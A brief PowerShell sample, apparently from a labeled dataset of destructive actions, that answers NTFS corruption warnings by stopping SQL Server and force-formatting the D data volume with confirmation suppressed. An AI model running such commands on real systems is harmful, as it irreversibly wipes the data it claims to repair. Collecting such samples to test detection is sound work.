# description: Responds to NTFS corruption warnings on the data volume by reformatting it in place.
# family: destruction
Get-Volume -DriveLetter D | Format-List HealthStatus, OperationalStatus, SizeRemaining
Stop-Service -Name MSSQLSERVER -Force
Format-Volume -DriveLetter D -FileSystem NTFS -NewFileSystemLabel 'Data' -Force -Confirm:$false
Start-Service -Name MSSQLSERVER
